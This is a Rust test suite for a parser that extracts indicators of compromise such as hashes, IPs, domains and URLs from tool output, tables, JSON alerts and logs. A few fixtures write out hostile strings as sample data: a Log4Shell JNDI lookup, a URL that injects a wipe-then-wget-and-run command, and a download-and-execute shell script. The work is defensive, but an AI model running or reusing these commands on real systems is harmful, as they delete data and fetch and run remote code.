use super::*;

const MD5: &str = "7809376fe32e44c957347816a47b3d65";
const SHA256: &str = "9714c722dde246144e8086e535b6782047da99854daf7bb3a48f2a4e02cbd056";

fn pairs(text: &str) -> Vec<(String, String)> {
    entries(text).into_iter().map(|entry| (entry.text, entry.remark)).collect()
}

#[test]
fn a_url_alone_on_its_line_is_taken_sign_by_sign_and_one_among_words_without_the_sentence() {
    gives("http://evil.example/login.\n", &[("http://evil.example/login.", "")]);
    gives("http://evil.example/login. seen at noon", &[("http://evil.example/login", "seen at noon")]);
    gives(
        "http://evil.example/a http://evil.example/b.",
        &[("http://evil.example/a", ""), ("http://evil.example/b", "")],
    );
}

#[track_caller]
fn gives(text: &str, expected: &[(&str, &str)]) {
    let expected: Vec<(String, String)> =
        expected.iter().map(|(text, remark)| ((*text).to_owned(), (*remark).to_owned())).collect();
    assert_eq!(pairs(text), expected, "{text}");
}

#[test]
fn what_tools_print_about_files_is_read_with_the_name_as_remark() {
    gives(&format!("{MD5}  drop.bin\n{SHA256} *a b.exe\n"), &[(MD5, "drop.bin"), (SHA256, "a b.exe")]);
    gives(&format!("\\{MD5}  a\\\\b.exe"), &[(MD5, "a\\\\b.exe")]);
    gives(&format!("{MD5}  -"), &[(MD5, "")]);
    gives(&format!("SHA256 (a.exe) = {SHA256}\nSHA2-256(b.exe)= {SHA256}"), &[(SHA256, "a.exe"), (SHA256, "b.exe")]);
    let certutil =
        |head: &str, hash: &str| format!("{head}\r\n{hash}\r\nCertUtil: -hashfile command completed successfully.\r\n");
    gives(&certutil("SHA256 hash of a.exe:", SHA256), &[(SHA256, "a.exe")]);
    gives(&certutil("MD5 hash of file C:\\x y.exe:", MD5), &[(MD5, "C:\\x y.exe")]);
    gives(&certutil("SHA256-Hash von a.exe:", SHA256), &[(SHA256, "a.exe")]);
    let pairs: Vec<&str> = (0..16).map(|at| &MD5[2 * at..2 * at + 2]).collect();
    gives(&certutil("MD5 hash of file a.exe:", &pairs.join(" ")), &[(MD5, "a.exe")]);
    let upper = SHA256.to_uppercase();
    gives(
        &format!(
            "\nAlgorithm       Hash          Path\n---------       ----          ----\nSHA256          {upper}       C:\\a.exe\n\n"
        ),
        &[(&upper, "C:\\a.exe")],
    );
    gives(&format!("\nAlgorithm : SHA256\nHash      : {upper}\nPath      : C:\\a b.exe\n"), &[(&upper, "C:\\a b.exe")]);
}

#[test]
fn a_line_of_more_values_than_a_table_has_columns_keeps_each_once() {
    let line = (0..5_000).map(|number| format!("host{number}.example")).collect::<Vec<_>>().join(",");
    let entries = entries(&line);
    assert_eq!(entries.len(), 5_000);
    assert!(entries.iter().all(|entry| entry.remark.is_empty()), "none of them says anything of another");
}

#[test]
fn the_rest_of_a_line_is_the_remark() {
    gives(&format!("{MD5} # from the mail\n{MD5} - dropper"), &[(MD5, "from the mail"), (MD5, "dropper")]);
    gives("a[.]example   sign-in page", &[("a[.]example", "sign-in page")]);
    gives("203.0.113.7,b.example", &[("203.0.113.7", "b.example"), ("b.example", "203.0.113.7")]);
    gives("0.0.0.0 evil.example # ads", &[("evil.example", "ads")]);
    gives("0.0.0.0 a.example b.example # ads", &[("a.example", "ads"), ("b.example", "ads")]);
    gives("https://a.example/x,y;z", &[("https://a.example/x,y;z", "")]);
}

#[test]
fn a_line_of_nothing_but_indicators_names_each_of_them() {
    gives("192.0.2.4 198.51.100.5", &[("192.0.2.4", ""), ("198.51.100.5", "")]);
    gives(
        "evil.example  evil2.example evil3.example",
        &[("evil.example", ""), ("evil2.example", ""), ("evil3.example", "")],
    );
    gives(
        "evil.example seen by 198.51.100.5",
        &[("evil.example", "seen by 198.51.100.5"), ("198.51.100.5", "seen by")],
    );
}

#[test]
fn a_line_of_keys_and_values_gives_all_that_it_names() {
    let three = [("contoso.example", ""), ("203.0.113.7", ""), ("http://evil.example/x", "")];
    let named = |text: &str| entries(text).into_iter().map(|entry| (entry.line, entry.text)).collect::<Vec<_>>();
    let on = |line: usize| three.map(|(text, _)| (line, text.to_owned())).to_vec();
    let json = r#"{"user":"bob@contoso.example","ip":"203.0.113.7","url":"http://evil.example/x"}"#;
    assert_eq!(named(json), on(1));
    assert_eq!(
        named(&format!("{json}\n{{\"ip\":\"203.0.113.8\"}}")),
        [on(1), vec![(2, "203.0.113.8".to_owned())]].concat()
    );
    assert_eq!(named(&format!("Nov 27 10:00:00 gw: {json}")), on(1));
    assert_eq!(named("user=bob@contoso.example,src=203.0.113.7,url=http://evil.example/x"), on(1));
    assert_eq!(named("user=bob@contoso.example src=203.0.113.7 url=http://evil.example/x"), on(1));
    assert_eq!(named("10:00,user=bob@contoso.example,src=203.0.113.7,url=http://evil.example/x"), on(1));
    assert_eq!(named(r#"{"note": "nothing"}"#), [(1, r#"{"note": "nothing"}"#.to_owned())]);
}

#[test]
fn what_else_a_line_names_is_taken_and_what_a_remark_names_is_counted() {
    let named = |text: &str| {
        let list = read(text, Taking::All);
        (list.entries.into_iter().map(|entry| entry.text).collect::<Vec<_>>(), list.beside)
    };
    let log = "203.0.113.7 - - [27/Nov/2026:10:00:00 +0000] \"GET /?x=${jndi:ldap://198.51.100.8:1389/a} HTTP/1.1\" 200 0 \"-\" \"Mozilla/5.0 (X11; Linux; rv:1)\"";
    assert_eq!(named(log), (vec!["203.0.113.7".into(), "198.51.100.8".into()], 0));
    let shell = "203.0.113.7 - - \"GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.8/jaws;sh HTTP/1.1\"";
    assert_eq!(named(shell), (vec!["203.0.113.7".into(), "http://198.51.100.8/jaws".into()], 0));
    assert_eq!(
        named("203.0.113.7 -> 203.0.113.9 GET http://evil.example/x"),
        (vec!["203.0.113.7".into(), "203.0.113.9".into(), "http://evil.example/x".into()], 0)
    );
    assert_eq!(named("evil.com resolved to 203.0.113.7"), (vec!["evil.com".into(), "203.0.113.7".into()], 0));
    assert_eq!(
        named(&format!("{MD5} dropped from http://evil.example/x")),
        (vec![MD5.into(), "http://evil.example/x".into()], 0)
    );
    assert_eq!(
        named("first, see evil-a.com\nevil-b.com"),
        (vec!["evil-a.com".into(), "evil-b.com".into()], 0),
        "no head of a table"
    );
    assert_eq!(
        named(&format!("http://evil.example/x,203.0.113.7,{MD5}")),
        (vec!["http://evil.example/x".into(), "203.0.113.7".into(), MD5.into()], 0)
    );
    assert_eq!(
        named("urls: http://evil.example/x,evil-b.com,hxxp://evil-c[.]com/y,203.0.113.7"),
        (
            vec![
                "http://evil.example/x".into(),
                "evil-b.com".into(),
                "http://evil-c.com/y".into(),
                "203.0.113.7".into()
            ],
            0
        )
    );
    assert_eq!(named("evil.com # resolved to 203.0.113.7"), (vec!["evil.com".into()], 1));
    assert_eq!(named("ip,comment\n203.0.113.7,with evil.com and evil.com"), (vec!["203.0.113.7".into()], 1));
    assert_eq!(named("evil.com # with evil-b.com\nevil-b.com"), (vec!["evil.com".into(), "evil-b.com".into()], 0));
    assert_eq!(named(&format!("{MD5}  evil.com and others.txt")), (vec![MD5.into()], 0), "the name of a file");
}

#[test]
fn what_changes_something_takes_what_is_listed_and_nothing_out_of_sentences_and_alerts() {
    let listed = |text: &str| {
        let list = read(text, Taking::Listed);
        (list.entries.into_iter().map(|entry| entry.text).collect::<Vec<_>>(), list.beside)
    };
    assert_eq!(listed("evil.com resolved to 203.0.113.7"), (vec!["evil.com".into()], 1));
    assert_eq!(listed("203.0.113.7,evil.com"), (vec!["203.0.113.7".into(), "evil.com".into()], 0));
    assert_eq!(listed("- evil.com\n• 203.0.113.7 seen"), (vec!["evil.com".into(), "203.0.113.7".into()], 0));
    assert_eq!(listed("http://evil.com/x,203.0.113.7"), (vec!["http://evil.com/x".into(), "203.0.113.7".into()], 0));
    for (sentence, beside) in [
        ("please look at evil.com which talked to 203.0.113.7", 2),
        ("look at http://evil.com/x,203.0.113.7 and evil-b.com", 3),
        ("Nov 27 10:00:00 fw1 kernel: DROP SRC=203.0.113.7 DST=198.51.100.9", 2),
    ] {
        assert_eq!(listed(sentence), (vec![sentence.to_owned()], beside), "{sentence}");
    }
    assert_eq!(listed("evil.com  # see \"note\": evil-b.com"), (vec!["evil.com".into()], 1));
    for alert in [r#"{"user":"bob@contoso.com","ip":"203.0.113.7"}"#, "user=bob,src=203.0.113.7"] {
        assert_eq!(listed(alert), (vec![alert.to_owned()], 0));
    }
}

#[test]
fn a_record_of_ours_is_about_one_thing() {
    let domain = r#"{"schema":1,"input":"a.example","names":["eicar.com"],"kind":"domain","id":"a.example","whois":"b.example"}"#;
    let url = r#"{"schema":1,"input":null,"kind":"url","id":"aHR0cDovL2EuZXhhbXBsZS8"}"#;
    let extracted = r#"{"kind":"domain","value":"c.example","ticked":true,"remark":"beside d.example"}"#;
    let left_out = r#"{"kind":"domain","value":"e.example","ticked":false}"#;
    let things = ["a.example", "http://a.example/", "c.example"].map(|text| (text.to_owned(), String::new()));
    for taking in [Taking::All, Taking::Listed] {
        let lines = [domain, url, extracted, left_out].join("\n");
        for text in [lines.clone(), format!("[{}]", lines.replace('\n', ","))] {
            let entries = read(&text, taking).entries.into_iter().map(|entry| (entry.text, entry.remark));
            assert_eq!(entries.collect::<Vec<_>>(), things, "{text}");
        }
        let texts = read(r#"["a.example", "203.0.113.7"]"#, taking).entries.into_iter().map(|entry| entry.text);
        assert_eq!(texts.collect::<Vec<_>>(), ["a.example", "203.0.113.7"]);
    }
}

#[test]
fn tables_are_read_with_and_without_a_head() {
    let rows = format!("2026-11-24\t{SHA256}\tinvoice.pdf.zip\n");
    gives(&rows, &[(SHA256, "2026-11-24, invoice.pdf.zip")]);
    gives(&format!("date\tsha256\tname\n{rows}"), &[(SHA256, "2026-11-24, invoice.pdf.zip")]);
    gives("host;name\nc2.example;report.example\n", &[("c2.example", "report.example")]);
    gives("ip,comment\n\"203.0.113.7\",\"a, \"\"b\"\"\"\n", &[("203.0.113.7", "a, \"b\"")]);
    gives(&format!("{MD5},a\n{MD5},b\n"), &[(MD5, "a"), (MD5, "b")]);
}

#[test]
fn a_line_without_anything_stays_whole() {
    gives("deadbeef\n# left out\n\nfoo, bar\na.example", &[("deadbeef", ""), ("foo, bar", ""), ("a.example", "")]);
    gives("foo, bar", &[("foo, bar", "")]);
    gives("comment/x-1 ", &[("comment/x-1", "")]);
}

#[test]
fn a_script_or_mail_is_no_list() {
    assert!(is_list(&format!("{MD5}  a\nnonsense\n{SHA256}\na.example\n203.0.113.7\n")));
    assert!(!is_list("#!/bin/sh\ncurl -O http://a.example/x\nchmod +x x\n./x &\nexit 0\n"));
    assert!(!is_list("From: a@b.example\nTo: c@d.example\nSubject: hello\n\nhello\nsee http://a.example/\n"));
    assert!(!is_list(""));
}
